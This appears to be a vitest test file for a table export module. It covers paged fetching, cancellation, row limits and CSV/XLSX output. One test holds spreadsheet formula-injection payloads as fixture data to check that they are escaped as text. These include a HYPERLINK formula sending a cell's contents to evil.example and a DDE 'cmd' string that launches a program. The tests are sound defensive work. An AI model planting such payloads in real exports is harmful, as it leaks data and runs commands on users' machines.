import Papa from 'papaparse'
import { describe, expect, it, vi } from 'vitest'
import type { Page } from '../../contract/envelope'
import { ExportTooLargeError, fetchAllPages } from './fetch-all-pages'
import { type ExportColumn, exportMatrix, toCsv, toXlsx } from './table-export'

interface Row {
  id: string
  name: string
  amount: number
}
const ROWS: Row[] = Array.from({ length: 5 }, (_, i) => ({
  id: `r${i + 1}`,
  name: i === 2 ? '张三, "VIP"' : `n${i + 1}`,
  amount: i * 100,
}))

function pager(rows: Row[]) {
  return vi.fn(
    async (pageNo: number, pageSize: number): Promise<Page<Row>> => ({
      pageNo,
      pageSize,
      totalCount: rows.length,
      totalPage: Math.ceil(rows.length / pageSize),
      data: rows.slice((pageNo - 1) * pageSize, pageNo * pageSize),
    }),
  )
}

const columns: ExportColumn<Row>[] = [
  { header: 'No.', value: (row) => row.id },
  { header: 'Name', value: (row) => row.name },
  { header: 'Amount', value: (row) => row.amount / 100 },
]

describe('exporting a filtered list', () => {
  it('fetches every page in chunks and reports progress', async () => {
    const fetchPage = pager(ROWS)
    const progress: [number, number][] = []
    const rows = await fetchAllPages(fetchPage, {
      chunkSize: 2,
      onProgress: (done, total) => progress.push([done, total]),
    })
    expect(rows.map((row) => row.id)).toEqual(['r1', 'r2', 'r3', 'r4', 'r5'])
    expect(fetchPage.mock.calls.map(([pageNo, size]) => [pageNo, size])).toEqual([
      [1, 2],
      [2, 2],
      [3, 2],
    ])
    expect(progress).toEqual([
      [2, 5],
      [4, 5],
      [5, 5],
    ])
  })

  it('stops when cancelled', async () => {
    const abort = new AbortController()
    const fetchPage = pager(ROWS)
    const run = fetchAllPages(fetchPage, { chunkSize: 2, signal: abort.signal, onProgress: () => abort.abort() })
    await expect(run).rejects.toThrow()
    expect(fetchPage).toHaveBeenCalledTimes(1)
  })

  it('refuses a list larger than an export may hold', async () => {
    await expect(fetchAllPages(pager(ROWS), { chunkSize: 2, maxRows: 3 })).rejects.toBeInstanceOf(ExportTooLargeError)
  })

  it('writes CSV rows from fixture pages, quoting commas and quotes, with a BOM for Excel', async () => {
    const rows = await fetchAllPages(pager(ROWS), { chunkSize: 2 })
    const csv = await toCsv(rows, columns)
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data
    expect(parsed).toEqual([
      ['No.', 'Name', 'Amount'],
      ['r1', 'n1', '0'],
      ['r2', 'n2', '1'],
      ['r3', '张三, "VIP"', '2'],
      ['r4', 'n4', '3'],
      ['r5', 'n5', '4'],
    ])
  })

  it('writes cells a spreadsheet would run as formulas as plain text, and keeps signed amounts', async () => {
    type Imported = { buyer: string; title: string; sku: string; note: string; amount: string }
    const hostile: Imported = {
      buyer: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      title: "-2+3+cmd|' /C calc'!A0",
      sku: '@SUM(1+1)',
      note: '\t=1+1',
      amount: '-12.50',
    }
    const keys = Object.keys(hostile) as (keyof Imported)[]
    const csv = await toCsv(
      [hostile, { ...hostile, buyer: '+86 138', title: '\r=cmd', sku: 'SKU-1', note: 'ok', amount: '+3' }],
      keys.map((key) => ({ header: key, value: (row: Imported) => row[key] })),
    )
    const [, first, second] = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data
    expect(first).toEqual([`'${hostile.buyer}`, `'${hostile.title}`, "'@SUM(1+1)", "'\t=1+1", '-12.50'])
    expect(second).toEqual(["'+86 138", "'\r=cmd", 'SKU-1', 'ok', '+3'])
  })

  it('writes an XLSX workbook with the same cells', async () => {
    const buffer = await toXlsx(ROWS.slice(0, 2), columns, 'orders')
    const { default: ExcelJS } = await import('exceljs')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(buffer)
    const sheet = workbook.getWorksheet('orders')
    expect(sheet?.getRow(1).values).toEqual([undefined, 'No.', 'Name', 'Amount'])
    expect(sheet?.getRow(3).values).toEqual([undefined, 'r2', 'n2', 1])
  })

  it('leaves missing values empty', () => {
    expect(exportMatrix([{ id: 'x' }], [{ header: 'A', value: () => null }])).toEqual([['A'], ['']])
  })
})
